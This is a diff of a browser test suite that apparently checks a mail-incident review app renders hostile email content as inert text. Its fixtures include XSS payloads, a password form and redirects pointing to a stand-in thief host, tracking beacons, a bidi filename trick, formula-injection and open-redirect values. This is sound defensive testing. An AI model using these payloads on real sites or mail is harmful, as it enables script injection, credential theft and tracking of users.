@@ -2,14 +2,15 @@
 // it is text. Nothing of it runs, loads, covers, or stands in the page as anything else.
 import assert from 'node:assert/strict';
 import { ADD_ME, ELLIE, letter } from './mail.mjs';
-import { decideInWords, enter, run, test } from './support.mjs';
+import { decideInWords, enter, run, signIn, test } from './support.mjs';
 
 const RUN = '<script>document.title = "taken"; alert(1)</script>';
 const LOAD = '<img src="http://tracker.example/seen.png" onerror="alert(2)">';
 const QUOTES = '"\'><svg/onload=alert(3)>';
 const BIDI = '\u202Egnp.exe\u202C\u2067';
 const TEXT = [RUN, LOAD, QUOTES, '</textarea></pre></main></details></title></style>',
-    '<a href="javascript:alert(4)">x</a>', '<meta http-equiv="refresh" content="0;url=//thief.example">',
+    '<a href="javascript:alert(4)">x</a>',
+    '<meta http-equiv="refresh" content="0;url=//thief.example">',
     '<iframe srcdoc="<script>alert(5)</script>"></iframe><base href="//thief.example/">',
     '<form action="http://thief.example/"><input name="password" autofocus></form>',
     '<style>* { display: none } body { background: url(http://tracker.example/css) }</style>',
@@ -50,19 +51,21 @@ const attachments = [
 
 const mails = [
     letter({ name: 'words', to: [ELLIE], subject: `${RUN}${QUOTES}${BIDI}`,
-        body: `${ADD_ME}\nzebra crossing\n${TEXT}\n`, html: `<p>${ADD_ME}</p>${TEXT}`, attachments }),
+        body: `${ADD_ME}\nzebra crossing\n${TEXT}\n`, html: `<p>${ADD_ME}</p>${TEXT}`,
+        attachments }),
     letter({ name: 'people', from: '"<b>zoe"@kingsmead.example',
         to: ['"<img/src=x onerror=alert(1)>"@post.example', ELLIE], subject: FORMULA,
         body: `${ADD_ME}\nzebra crossing\n` }),
 ];
 // What people are called stands before their addresses.
 const withNames = (mail) => ({ ...mail, text: mail.text
-    .replace(/^From: /, `X-Trick${'y'.repeat(60)}: ${RUN}\nX-Empty:\nFrom: "${RUN} <b>" <x@y.example>, `)
+    .replace(/^From: /, `X-Trick${'y'.repeat(60)}: ${RUN}\nX-Empty:\n` +
+        `From: "${RUN} <b>" <x@y.example>, `)
     .replace(/^To: /m, 'To: "<iframe src=//thief.example>" <f@thief.example>, ') });
 
 const PATHS = {
-    '/': ['state', 'clause', 'severity', 'rule', 'from', 'to', 'age', 'mark', 'each', 'words', 'page',
-        'notice', 'names'],
+    '/': ['state', 'clause', 'severity', 'rule', 'from', 'to', 'age', 'mark', 'each', 'words',
+        'page', 'notice', 'names'],
     '/incident/ID': ['names', 'whole', 'done', 'trouble'],
     '/incident/ID/headers': ['names'],
     '/incident/ID/attachment/1': ['names'],
@@ -91,15 +94,16 @@ const OURS = `a article aside bdi blockquote body button caption code datalist d
     legend li link main mark meta nav ol optgroup option p pre q script section select small span
     strong summary sup table tbody td textarea tfoot th thead time title tr ul canvas`.split(/\s+/);
 
-// What on the page is not ours: elements, attributes that act, and what leads elsewhere. Only charts
-// have a style of their own, from our script.
+// What on the page is not ours: elements, attributes that act, and what leads elsewhere. Only
+// charts have a style of their own, from our script.
 const strange = (page) => page.evaluate((ours) => {
     const found = [];
     for (const element of document.querySelectorAll('*')) {
         const tag = element.localName;
         const isChart = tag === 'canvas' || element.querySelector(':scope > canvas');
         const odd = [...element.attributes].filter(({ name, value }) =>
-            (name === 'style' && !isChart) || /^(on|srcdoc$|http-equiv$|formaction$|autofocus$|ping$)/.test(name) ||
+            (name === 'style' && !isChart) ||
+            /^(on|srcdoc$|http-equiv$|formaction$|autofocus$|ping$)/.test(name) ||
             (/^(href|src|action|data|xlink:href)$/.test(name) &&
                 !/^[/#?]([^/]|$)/.test(value) && !/^otpauth:/.test(value)));
         if (!ours.includes(tag) || odd.length > 0)
@@ -150,7 +154,7 @@ const about = (path, incident) => path.replace('ID', incident.id);
 
 async function fill(service) {
     for (const mail of mails)
-        incidents.push(await service.hold({ ...withNames(mail) }));
+        incidents.push(await service.hold(withNames(mail)));
 }
 
 test('a colleague who writes markup and formulas into the record is put on record with it',
@@ -182,7 +186,8 @@ test('what it says is there to be read, as it was written', async ({ open }) => 
     const page = await enter(open, 'officer');
     for (const [path, words] of [
         ['/?each=yes&names=1', [RUN, QUOTES, FORMULA, '<b>zoe']],
-        ['/incident/ID?names=1&whole=1', [RUN, LOAD, QUOTES, 'Sign in again', '<b onclick=alert(7)>']],
+        ['/incident/ID?names=1&whole=1',
+            [RUN, LOAD, QUOTES, 'Sign in again', '<b onclick=alert(7)>']],
         ['/incident/ID/headers', [RUN, 'X-Trick', '<iframe src=//thief.example>']],
         ['/incident/ID/case', [RUN, LOAD, FORMULA]],
         ['/incident/ID/attachment/1', ['<b onclick=alert(7)>']],
@@ -217,8 +222,8 @@ test('nor for those who see no text, who are not shown any of it', async ({ open
             '/incident/ID/case', '/exemptions', '/reports']) {
             await page.goto(about(path, incident));
             await inert(page, path);
-            assert.doesNotMatch(await page.content(), /coachdanprice|tracker\.example\/css|HYPERLINK/,
-                path);
+            assert.doesNotMatch(await page.content(),
+                /coachdanprice|tracker\.example\/css|HYPERLINK/, path);
         }
 });
 
@@ -244,14 +249,13 @@ test('a message that is tried says nothing but text', async ({ open }) => {
     assert.match(await page.locator('main').textContent(), /zebra/);
 });
 
-test('an attached file is handed over as a file, whatever it says it is', async ({ open, service }) => {
+test('an attached file is handed over as a file, whatever it says it is', async ({ open }) => {
     const page = await enter(open, 'officer');
     for (const number of [1, 2, 3]) {
         const path = `/incident/${incidents[0].id}/attachment/${number}`;
         await page.goto(path);
         const csrf = await page.locator('main input[name=csrf]').inputValue();
-        const answer = await page.request.post(path, { form: { csrf },
-            headers: { origin: service.origin } });
+        const answer = await page.request.post(path, { form: { csrf } });
         const headers = answer.headers();
         assert.match(headers['content-disposition'], /^attachment/, path);
         assert.equal(headers['content-type'], 'application/octet-stream', path);
@@ -278,7 +282,8 @@ test('no parameter of any page comes back as anything but text', async ({ open }
             assert.doesNotMatch(html, /<x-odd|<svg\/onload|document\.title = "/, url);
             assert.equal(answer.headers()['set-cookie'], undefined, url);
         }
-    for (const path of [`/incident/${value}`, `/rules/${value}`, `/${value}`, `/incident/x/${value}`]) {
+    for (const path of [`/incident/${value}`, `/rules/${value}`, `/${value}`,
+        `/incident/x/${value}`]) {
         const answer = await page.request.get(path);
         assert.ok([400, 404].includes(answer.status()), `${path}: ${answer.status()}`);
         assert.doesNotMatch(await answer.text(), /<x-odd|<svg\/onload|document\.title = "/, path);
@@ -287,9 +292,7 @@ test('no parameter of any page comes back as anything but text', async ({ open }
         'javascript:alert(1)', '/%09/thief.example']) {
         const stranger = await open();
         await stranger.goto(`/sign-in?next=${encodeURIComponent(next)}`);
-        await stranger.getByLabel('Name').fill('officer');
-        await stranger.getByLabel('Password').fill('a long walk by the sea');
-        await stranger.getByRole('button', { name: 'Sign in' }).click();
+        await signIn(stranger, 'officer');
         await stranger.getByRole('button', { name: 'Sign out' }).waitFor();
         assert.equal(new URL(stranger.url()).origin, new URL(page.url()).origin);
     }
@@ -306,8 +309,8 @@ test('no cell of a table for a spreadsheet is a formula', async ({ open }) => {
         assert.equal(answer.status(), 200);
         const all = cells(await answer.text());
         assert.ok(all.some((cell) => cell.includes(must)), `${path} has ${must}`);
-        assert.deepEqual(all.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?[0-9.]+$/.test(cell)),
-            [], path);
+        assert.deepEqual(all.filter((cell) =>
+            /^[=+\-@\t\r]/.test(cell) && !/^-?[0-9.]+$/.test(cell)), [], path);
     }
 });
 
